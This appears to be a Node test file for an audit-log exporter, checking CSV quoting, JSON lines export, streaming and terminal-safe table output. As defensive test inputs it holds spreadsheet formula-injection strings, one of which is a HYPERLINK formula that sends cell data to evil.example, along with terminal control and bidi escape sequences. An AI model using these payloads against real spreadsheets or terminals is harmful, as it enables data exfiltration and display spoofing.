// Exports (JSON lines, CSV that a spreadsheet cannot be tricked by) and the human table's
// defences against terminal control sequences.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { PassThrough, Writable } from 'node:stream';
import fc from 'fast-check';
import { auditEventSchema, type AuditEvent } from '../../../app/audit-event/event.ts';
import {
  CSV_COLUMNS,
  csvCell,
  csvRow,
  tableHeader,
  tableRow,
  terminalSafe,
} from '../../../app/audit-event/export-format.ts';
import { parseTimeBound } from '../../../app/audit-event/filter.ts';
import { ev, freshStore } from './support.ts';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1',
  '\r=1',
  'a,b',
  'say "hi"',
  'two\nlines',
  'crlf\r\nend',
  '',
  'plain /home/u/a.md',
];

/** RFC 4180 parsing, written independently of the exporter. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  assert.equal(cell + row.join(''), '', 'the export ends with CRLF');
  return rows;
}

test('CSV: RFC 4180 quoting, and a cell a spreadsheet would run as a formula starts with a quote', () => {
  const s = freshStore();
  try {
    for (const target of HOSTILE) s.store.record(ev({ target, reason: target, ext: 'acme.x' }));
    s.store.flush();
    const csv = [...s.store.exportChunks({}, 'csv')].join('');
    const rows = parseCsv(csv);
    assert.deepEqual(rows[0], [...CSV_COLUMNS]);
    assert.equal(rows.length, HOSTILE.length + 1);
    HOSTILE.forEach((target, i) => {
      const row = rows[i + 1]!;
      const expected = /^[=+\-@\t\r]/.test(target) ? `'${target}` : target;
      assert.equal(row[6], expected, JSON.stringify(target));
      assert.equal(row[9], expected);
      assert.equal(row[0], String(i));
      assert.deepEqual([row[7], row[8]], ['allow', ''], 'a decision, no outcome');
      assert.equal(row[10], '180');
      assert.equal(row[11], '2', 'event version 2');
      // No cell of the record starts with a formula character.
      for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/);
    });
  } finally {
    s.cleanup();
  }
});

test('property: every CSV cell reads back as its text (or the quote-prefixed text), never as a formula', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 30 }), (text) => {
      const [row] = parseCsv(csvCell(text) + '\r\n');
      assert.equal(row!.length, 1);
      assert.equal(row![0], /^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
    }),
    { numRuns: 500 },
  );
});

test('JSON lines: one event per line, each the stored event, oldest first, filters applied', () => {
  const s = freshStore();
  try {
    for (const target of HOSTILE) s.store.record(ev({ target }));
    s.store.record(ev({ ext: 'acme.other' }));
    s.store.flush();
    const lines = [...s.store.exportChunks({ ext: 'acme.word-count' }, 'jsonl')].join('');
    const events = lines
      .trimEnd()
      .split('\n')
      .map((l) => auditEventSchema.parse(JSON.parse(l)));
    assert.deepEqual(
      events.map((e) => e.target),
      HOSTILE,
    );
    assert.equal(lines.split('\n').length, HOSTILE.length + 1, 'newlines inside text are escaped');
  } finally {
    s.cleanup();
  }
});

test('exportTo streams page by page and waits for a slow reader to drain', async () => {
  const s = freshStore();
  try {
    for (let i = 0; i < 5000; i++) s.store.record(ev({ target: `/f/${i}` }));
    s.store.flush();
    const out = new PassThrough({ highWaterMark: 1024 });
    let waits = 0;
    out.on('drain', () => waits++);
    const chunks: Buffer[] = [];
    const reading = (async () => {
      for await (const c of out) {
        chunks.push(c as Buffer);
        await new Promise((done) => setImmediate(done));
      }
    })();
    const bytes = await s.store.exportTo({}, 'jsonl', out);
    out.end();
    await reading;
    const text = Buffer.concat(chunks).toString('utf8');
    assert.equal(Buffer.byteLength(text), bytes);
    assert.equal(text.trimEnd().split('\n').length, 5000);
    assert.ok(waits > 0, 'the export waited for drain');
  } finally {
    s.cleanup();
  }
});

test('exportTo rejects when the stream fails, instead of waiting for a drain that never comes', async () => {
  const s = freshStore();
  try {
    for (let i = 0; i < 5000; i++) s.store.record(ev());
    s.store.flush();
    const out = new Writable({
      highWaterMark: 16,
      write(_chunk, _enc, done) {
        setTimeout(() => done(new Error('disk full')), 5);
      },
    });
    out.on('error', () => {});
    await assert.rejects(s.store.exportTo({}, 'jsonl', out), /disk full/);
  } finally {
    s.cleanup();
  }
});

test('an export of a busy log ends at the newest event when it began', () => {
  const s = freshStore();
  try {
    for (let i = 0; i < 4500; i++) s.store.record(ev());
    s.store.flush();
    let n = 0;
    for (const page of s.store.pages({})) {
      n += page.length;
      for (let i = 0; i < 3000; i++) s.store.record(ev());
      s.store.flush();
    }
    assert.equal(n, 4500);
  } finally {
    s.cleanup();
  }
});

test('the table shows control and bidi characters as escapes, never raw', () => {
  assert.equal(terminalSafe('a\x1b[31mred\x07'), 'a\\x1b[31mred\\x07');
  assert.equal(terminalSafe('\u202eevil\u2066'), '\\u{202e}evil\\u{2066}');
  assert.equal(terminalSafe('\u009b2J'), '\\x9b2J');
  const e: AuditEvent = {
    seq: 1,
    ts: '2026-11-25T21:04:05.123Z',
    ...ev({ target: '/x\x1b]0;pwned\x07', reason: 'line\nbreak' }),
  };
  const row = tableRow(e);
  // eslint-disable-next-line no-control-regex
  assert.doesNotMatch(row.slice(0, -1), /[\u0000-\u001f\u007f-\u009f]/);
  assert.equal(row.endsWith('line\\x0abreak\n'), true);
  assert.match(tableHeader(), /^time +ext +layer +kind +op +target +result +reason\n$/);
  // The result column: the decision, the outcome, or both.
  assert.match(tableRow({ ...e, decision: undefined, outcome: 'crashed' }), / crashed +line/);
  assert.match(tableRow({ ...e, decision: 'allow', outcome: 'failed' }), / allow\/failed +line/);
  // A long path keeps its end, where paths differ.
  const long = tableRow({ ...e, target: '/very/long/' + 'd/'.repeat(40) + 'secret.key' });
  assert.match(long, /…[^ ]*secret\.key /);
});

test('CSV rows keep numbers as numbers and leave an absent duration empty', () => {
  const e: AuditEvent = {
    seq: 3,
    ts: '2026-11-25T21:04:05.123Z',
    ...ev({ durationUs: undefined }),
  };
  assert.equal(
    csvRow(e),
    '3,2026-11-25T21:04:05.123Z,acme.word-count,broker,fs,read,/home/u/notes/a.md,allow,,grant fs[0],,\r\n',
  );
  assert.equal(
    csvRow({ ...e, v: 2, decision: undefined, outcome: 'timeout', durationUs: 7 }),
    '3,2026-11-25T21:04:05.123Z,acme.word-count,broker,fs,read,/home/u/notes/a.md,,timeout,grant fs[0],7,2\r\n',
  );
});

test('--since and --until accept ISO times and durations back from now, nothing else', () => {
  const now = new Date('2026-11-25T21:00:00.000Z');
  assert.equal(parseTimeBound('30s', now), '2026-11-25T20:59:30.000Z');
  assert.equal(parseTimeBound('15m', now), '2026-11-25T20:45:00.000Z');
  assert.equal(parseTimeBound('2h', now), '2026-11-25T19:00:00.000Z');
  assert.equal(parseTimeBound('7d', now), '2026-11-18T21:00:00.000Z');
  assert.equal(parseTimeBound('1w', now), '2026-11-18T21:00:00.000Z');
  assert.equal(parseTimeBound('2026-11-20', now), '2026-11-20T00:00:00.000Z');
  assert.equal(parseTimeBound('2026-11-20T10:00:00+01:00', now), '2026-11-20T09:00:00.000Z');
  for (const bad of ['yesterday', '5', '-5m', '2026-13-45', '5 m', '1y'])
    assert.equal(parseTimeBound(bad, now), null, bad);
});
